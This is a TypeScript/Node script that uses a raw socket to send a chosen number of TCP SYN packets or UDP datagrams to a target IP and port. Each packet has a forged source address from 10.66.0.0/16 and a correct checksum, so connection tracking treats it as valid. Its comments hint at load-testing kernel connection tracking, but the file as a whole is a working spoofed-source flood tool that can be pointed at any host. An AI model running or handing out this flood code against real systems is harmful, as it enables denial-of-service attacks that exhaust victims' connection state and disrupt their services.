/**
 * First packets of clients that do not exist: `node kernel-flood.js tcp|udp COUNT IP PORT`. Each has a source of its own in 10.66.0.0/16,
 * and goes out through a raw socket (raw(7)), which needs root. A SYN, or a datagram with a word.
 */
import koffi from 'koffi';

const AF_INET = 2;
const SOCK_RAW = 3;
const IPPROTO_RAW = 255;
const protocolNumbers = { tcp: 6, udp: 17 } as const;
const ipHeaderBytes = 20;
const synFlag = 0x02;
const firstSourcePort = 20_000;

const [protocol = '', count = '0', ip = '', port = '0'] = process.argv.slice(2);
if (protocol !== 'tcp' && protocol !== 'udp') throw new Error('tcp or udp');

const library = koffi.load(null);
const socket = library.func('int socket(int, int, int)');
const sendto = library.func('long sendto(int, const uint8_t *, size_t, int, const uint8_t *, uint32_t)');
const target = ip.split('.').map(Number);
const address = Buffer.alloc(16);
address.writeUInt16LE(AF_INET, 0);
address.set(target, 4);
const descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
if (descriptor < 0) throw new Error(`no raw socket: errno ${koffi.errno()}`);

const segment = protocol === 'tcp' ? syn() : datagram('flood');
const packet = Buffer.concat([Buffer.alloc(ipHeaderBytes), segment]);
// Version and header length, total length, time to live, protocol, addresses; the kernel fills in the header's checksum.
packet[0] = 0x45;
packet.writeUInt16BE(packet.length, 2);
packet[8] = 64;
packet[9] = protocolNumbers[protocol];
packet.set(target, 16);

let sent = 0;
for (let i = 0; i < Number(count); i++) {
  packet.set([10, 66, (i >> 8) & 0xff, i & 0xff], 12);
  packet.writeUInt16BE(firstSourcePort + (i >> 16), ipHeaderBytes);
  const sumAt = ipHeaderBytes + (protocol === 'tcp' ? 16 : 6);
  packet.writeUInt16BE(0, sumAt);
  packet.writeUInt16BE(checksum(), sumAt);
  if (sendto(descriptor, packet, packet.length, 0, address, address.length) === packet.length) sent++;
}
process.stdout.write(`sent ${sent}\n`);

function syn(): Buffer {
  const bytes = Buffer.alloc(20);
  bytes.writeUInt16BE(Number(port), 2);
  bytes.writeUInt32BE(1, 4);
  bytes[12] = 0x50;
  bytes[13] = synFlag;
  bytes.writeUInt16BE(65_535, 14);
  return bytes;
}

function datagram(text: string): Buffer {
  const bytes = Buffer.alloc(8 + text.length);
  bytes.writeUInt16BE(Number(port), 2);
  bytes.writeUInt16BE(bytes.length, 4);
  bytes.write(text, 8);
  return bytes;
}

/** Of the segment and its pseudo-header (RFC 1071): conntrack takes a wrong one for invalid. */
function checksum(): number {
  const length = packet.length - ipHeaderBytes;
  let sum = packet[9]! + length;
  for (let at = 12; at < packet.length; at += 2) sum += (packet[at]! << 8) | (packet[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}
